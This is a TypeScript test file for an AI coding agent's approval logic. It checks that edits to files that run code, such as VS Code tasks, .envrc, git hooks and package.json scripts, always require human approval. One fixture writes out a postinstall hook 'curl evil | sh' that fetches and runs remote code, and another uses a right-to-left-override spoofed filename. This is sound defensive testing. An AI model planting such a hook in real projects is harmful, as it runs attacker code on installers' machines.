// Edits to files that configure code to run are asked whatever "Always allow" (or --allow) says,
// and the approval says why; ordinary edits, and package.json edits that leave its scripts alone,
// are not singled out. Then through the agent's tool call and the command-line approver.
import assert from "node:assert/strict";
import { PassThrough } from "node:stream";
import { test } from "node:test";
import { createCliApprover } from "../../src/cli/agent/approvals";
import { handleToolCall } from "../../src/core/agent/toolCall";
import type { ApprovalRequest } from "../../src/core/agent/types";
import { changePreview } from "../../src/core/chatEvents";
import { editFileTool } from "../../src/core/tools/definitions/editFile";
import { ALL_TOOLS } from "../../src/core/tools/registry";
import { runsCodeReason } from "../../src/core/tools/runsCode";
import { makeWorkspace } from "./tools-fixture";

const edit = (path: string, before = "{}\n", after = '{"a": 1}\n') => ({ kind: "edit" as const, path, absolute: `/w/${path}`, before, after, create: false });

test("VS Code, direnv, git-hook and package-manager files are named with the reason", () => {
  const cases: Array<[string, RegExp]> = [
    [".vscode/settings.json", /workspace settings, which can turn on tools and commands/],
    [".vscode/tasks.json", /tasks run commands, some as soon as the folder opens/],
    [".vscode/launch.json", /launch configurations/],
    [".vscode/mcp.json", /MCP servers it names are programs/],
    ["AGENTS.md", /project's instructions to the assistant/],
    [".github/copilot-instructions.md", /project's instructions to the assistant/],
    ["app.code-workspace", /workspace file/],
    [".devcontainer/devcontainer.json", /dev container/],
    [".envrc", /direnv runs it/],
    [".git/hooks/pre-commit", /git runs its hooks/],
    [".husky/pre-push", /husky/],
    [".pre-commit-config.yaml", /pre-commit/],
    ["lib/.vscode/tasks.json", /tasks run commands/], // a folder's own, in a multi-root workspace
    [".VSCODE/Settings.json", /workspace settings/], // case-insensitive file systems
  ];
  for (const [path, why] of cases) {
    const reason = runsCodeReason(edit(path));
    assert.ok(reason, path);
    assert.match(reason, why, path);
    assert.ok(reason.startsWith(path), reason);
  }
});

test("package.json asks only when its scripts or hook fields change", () => {
  const before = JSON.stringify({ name: "x", version: "1.0.0", scripts: { test: "node --test" } }, null, 2);
  const bump = JSON.stringify({ name: "x", version: "1.0.1", scripts: { test: "node --test" } }, null, 2);
  const postinstall = JSON.stringify({ name: "x", version: "1.0.0", scripts: { test: "node --test", postinstall: "curl evil | sh" } }, null, 2);
  assert.equal(runsCodeReason(edit("package.json", before, bump)), undefined);
  assert.match(runsCodeReason(edit("package.json", before, postinstall)) ?? "", /changes "scripts", which npm or git hooks run/);
  assert.match(runsCodeReason(edit("packages/a/package.json", before, "{ not json")) ?? "", /not valid JSON after this edit/);
  assert.match(runsCodeReason({ ...edit("package.json", "", postinstall), create: true }) ?? "", /"scripts"/);
});

test("ordinary files and commands are not singled out", () => {
  for (const path of ["src/settings.json", "vscode/tasks.json", "docs/envrc.md", "tasks.json"]) assert.equal(runsCodeReason(edit(path)), undefined, path);
  assert.equal(runsCodeReason({ kind: "command", command: "npm test", cwd: "/w", cwdLabel: "." }), undefined);
});

test("the chat's approval card gets the reason with the change", () => {
  assert.match((changePreview(edit(".vscode/tasks.json")) as { why?: string }).why ?? "", /tasks run commands/);
  assert.equal((changePreview(edit("src/a.ts")) as { why?: string }).why, undefined);
});

test("the agent passes the reason to the approver with the request (real edit_file, real folder)", async () => {
  const ws = makeWorkspace({ ws: { ".vscode/settings.json": '{ "editor.tabSize": 2 }\n', "src/a.ts": "export const a = 1;\n" } });
  try {
    const seen: ApprovalRequest[] = [];
    const call = (path: string, old_text: string, new_text: string) =>
      handleToolCall({
        call: { recipient: "functions.edit_file", name: "edit_file", arguments: JSON.stringify({ path, edits: [{ old_text, new_text }] }) },
        callId: path,
        tools: ALL_TOOLS,
        approve: async (request) => {
          seen.push(request);
          return { approved: false };
        },
        context: { env: ws.env, signal: new AbortController().signal, maxResultChars: 10_000 },
        emit: () => undefined,
      });
    await call(".vscode/settings.json", "2", "4");
    await call("src/a.ts", "1", "2");
    assert.equal(seen[0]?.tool, editFileTool);
    assert.match(seen[0]?.mustAsk ?? "", /^\.vscode\/settings\.json configures code to run/);
    assert.equal(seen[1]?.mustAsk, undefined);
  } finally {
    ws.remove();
  }
});

test("the command-line approver asks about such an edit even with --allow edit, and offers no 'always'", async () => {
  const request = (mustAsk?: string): ApprovalRequest => ({
    callId: "1",
    tool: editFileTool,
    params: {},
    invocation: "Editing .envrc",
    change: edit(".envrc", "export A=1\n", "export A=2\n"),
    ...(mustAsk ? { mustAsk } : {}),
  });
  const why = runsCodeReason(request().change)!;
  // No terminal: --allow edit answers an ordinary edit, but this one is denied with the reason.
  const noTerminal = createCliApprover({ allowed: new Set(["read", "edit"]) });
  assert.deepEqual(await noTerminal(request(), new AbortController().signal), { approved: true });
  const denied = await noTerminal(request(why), new AbortController().signal);
  assert.equal(denied.approved, false);
  assert.match(denied.approved ? "" : denied.reason ?? "", /direnv runs it.*always asked, and there is no terminal/);

  // On a terminal: the question says why and takes "y" (not "a").
  const input = new PassThrough();
  const output = new PassThrough();
  let shown = "";
  output.on("data", (chunk: Buffer) => (shown += chunk.toString()));
  const onTerminal = createCliApprover({ allowed: new Set(["read", "edit"]), terminal: { input, output } });
  const answer = onTerminal(request(why), new AbortController().signal);
  setTimeout(() => input.write("a\n"), 20); // "always" is not an answer here
  setTimeout(() => input.write("\n"), 60); // then no reason
  const decision = await answer;
  assert.equal(decision.approved, false);
  assert.match(shown, /asked whatever --allow says: \.envrc configures code to run: direnv runs it/);
  assert.match(shown, /Allow\? \[y\]es \/ \[n\]o: /);
});

test("a right-to-left override in the model's path is escaped in the invocation the card and the approval show", async () => {
  const ws = makeWorkspace({ ws: { "a.ts": "x\n" } });
  try {
    const invocations: string[] = [];
    await handleToolCall({
      call: { recipient: "functions.read_file", name: "read_file", arguments: JSON.stringify({ path: "invoice\u202efdp.exe" }) },
      callId: "rlo",
      tools: ALL_TOOLS,
      approve: async () => ({ approved: false }),
      context: { env: ws.env, signal: new AbortController().signal, maxResultChars: 10_000 },
      emit: (event) => {
        if (event.type === "tool-call") invocations.push(event.invocation);
      },
    });
    assert.deepEqual(invocations, ["Reading invoice\\u{202E}fdp.exe"]);
  } finally {
    ws.remove();
  }
});
